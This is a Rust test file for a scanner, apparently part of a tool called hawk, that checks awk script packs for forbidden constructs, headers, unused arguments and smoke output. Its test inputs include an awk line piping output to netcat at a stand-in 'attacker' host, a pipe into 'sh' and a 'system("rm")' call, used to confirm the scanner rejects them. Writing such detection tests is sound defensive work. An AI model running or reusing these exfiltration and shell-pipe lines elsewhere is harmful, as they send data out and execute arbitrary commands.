use hawk::doctor::{
    check_header_and_terminator, check_smoke_output, contains_word, is_ident_char,
    scan_declared_arg_usage, security_scan_text, smoke_samples, DoctorReport, FindingSeverity,
    SecurityMode,
};
use hawk::frame::HawkFrame;
use hawk::packs::{ArgSpec, ArgType};
use hawk::strmap::StrMap;

fn messages(text: &str, mode: SecurityMode) -> Vec<(FindingSeverity, String)> {
    security_scan_text(text, mode).into_iter().map(|f| (f.severity, f.message)).collect()
}

#[test]
fn doctor_rejects_shell_escape() {
    let found = messages("print \"x\" | \"nc attacker 9\" \n", SecurityMode::Strict);
    assert!(found.contains(&(FindingSeverity::Error, "piping output to a command is not allowed".to_string())));
}

#[test]
fn deny_list_reported_once_each_in_order() {
    let text = "system(\"ls\")\nsystem(\"rm\")\ncmd | getline x\nprint $0 > \"out.txt\"\nprint \"e\" > \"/dev/stderr\"\n# system(\"ignored\")\n";
    let found = messages(text, SecurityMode::Warn);
    assert_eq!(
        found,
        vec![
            (FindingSeverity::Error, "command execution via system() is not allowed".to_string()),
            (FindingSeverity::Error, "command pipe into getline is not allowed".to_string()),
            (FindingSeverity::Error, "file redirection is not allowed (only stderr debug is allowed)".to_string()),
        ]
    );
}

#[test]
fn risk_list_by_mode() {
    let text = "getline < \"f\"\nx = 1\ngetline<\"g\"\ngetline line < \"h\"\n";
    let strict = messages(text, SecurityMode::Strict);
    assert_eq!(strict.len(), 2);
    assert!(strict.iter().all(|f| f.0 == FindingSeverity::Error));
    let warn = messages(text, SecurityMode::Warn);
    assert_eq!(warn.len(), 2);
    assert!(warn.iter().all(|f| f.0 == FindingSeverity::Warning));
    assert!(messages(text, SecurityMode::Off).is_empty());
    assert_eq!(
        messages("system(\"x\")\ngetline < \"f\"\n", SecurityMode::Off),
        vec![(FindingSeverity::Error, "command execution via system() is not allowed".to_string())]
    );
}

#[test]
fn whole_word_search() {
    assert!(contains_word("BEGIN { x = window_s }\n", "window_s"));
    assert!(!contains_word("BEGIN { x = window_sec }\n", "window_s"));
    assert!(!contains_word("# window_s\n", "window_s"));
    assert!(!contains_word("anything", ""));
    assert!(is_ident_char('_'));
    assert!(!is_ident_char('-'));
}

#[test]
fn unused_args_warn() {
    let args = vec![
        ArgSpec { name: "used".to_string(), ty: ArgType::Text, default: String::new(), help: String::new() },
        ArgSpec { name: "unused".to_string(), ty: ArgType::Text, default: String::new(), help: String::new() },
    ];
    let w = scan_declared_arg_usage("{ print used }\n", &args);
    assert_eq!(w, vec!["declared arg 'unused' is never referenced".to_string()]);
}

#[test]
fn header_and_terminator() {
    let good = "# ▛▞// probe :: demo\n{ print }\n# :: ∎\n\n";
    assert!(check_header_and_terminator(good).is_ok());
    assert!(check_header_and_terminator("{ print }\n# :: ∎\n").is_err());
    assert!(check_header_and_terminator("# ▛▞// x\n{ print }\n").is_err());
}

#[test]
fn smoke_output() {
    assert!(check_smoke_output("# note\n\n2026-02-16T00:00:00Z\tH\ts\ti\tok\tm\tk=v\n", true).is_ok());
    assert_eq!(check_smoke_output("", false).unwrap_err(), "awk exited nonzero");
    assert!(check_smoke_output("garbage\n", true).is_err());
    for line in smoke_samples() {
        assert!(HawkFrame::parse_tsv_line(line).unwrap().is_some());
    }
}

#[test]
fn report_collects_findings() {
    let mut rep = DoctorReport::new();
    assert!(rep.ok());
    rep.check_thread_script("t", "{ print | \"sh\" }\n", &Vec::new(), SecurityMode::Strict);
    assert_eq!(rep.errors, vec!["thread 't' security: piping output to a command is not allowed".to_string()]);
    assert_eq!(rep.warnings.len(), 1);
    assert!(!rep.ok());
    let mut seen = StrMap::new();
    let mut rep2 = DoctorReport::new();
    rep2.note_thread_id(&mut seen, "probe.alpha", "a/pack.toml");
    assert!(rep2.ok());
    rep2.note_thread_id(&mut seen, "probe.alpha", "b/pack.toml");
    assert_eq!(rep2.errors, vec!["thread id collision 'probe.alpha' between a/pack.toml and b/pack.toml".to_string()]);
}

#[test]
fn report_notes() {
    let mut rep = DoctorReport::new();
    rep.note_pack_threads("\"p/pack.toml\"", 2);
    assert!(rep.warnings.is_empty());
    rep.note_pack_threads("\"p/pack.toml\"", 0);
    assert_eq!(rep.warnings, vec!["pack \"p/pack.toml\" has zero threads".to_string()]);
    rep.note_parse_failure("m", "bad toml");
    rep.note_missing_file("t", "x.awk");
    rep.note_smoke_failure("t", "awk exited nonzero");
    assert_eq!(
        rep.errors,
        vec![
            "pack parse failed m: bad toml".to_string(),
            "thread 't' missing file x.awk".to_string(),
            "thread 't' smoke: awk exited nonzero".to_string(),
        ]
    );
    assert!(!rep.ok());
}
